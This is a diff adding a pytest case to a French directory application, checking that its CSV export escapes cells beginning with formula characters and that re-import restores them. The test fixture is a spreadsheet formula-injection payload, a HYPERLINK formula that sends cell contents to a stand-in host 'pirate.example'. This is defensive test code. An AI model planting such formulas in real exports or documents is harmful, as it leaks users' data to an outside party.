@@ -144,3 +144,15 @@ def test_pdf_directory_of_a_departement_lists_its_entries(world, client_as):
     assert "Annuaire des référents TEH – Nord (59)" in text
     assert "Magistrate référente TEH" in text
     assert "Fiche de Paris" not in text
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formula_starts_and_the_import_restores_them(world, client_as, start):
+    title = f'{start}HYPERLINK("https://pirate.example/?x="&A1)'
+    DirectoryEntryFactory(organisation=world.association, title=title, themes=[Theme.TEH], territories=[world.paris])
+    response = client_as("association_admin").get(reverse("directory:directory_search_export"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][2] == "'" + title
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    preview = import_entries(content=response.content, by=world.acting("association_admin"))
+    assert preview.rows[0].values["intitule"] == title.strip()
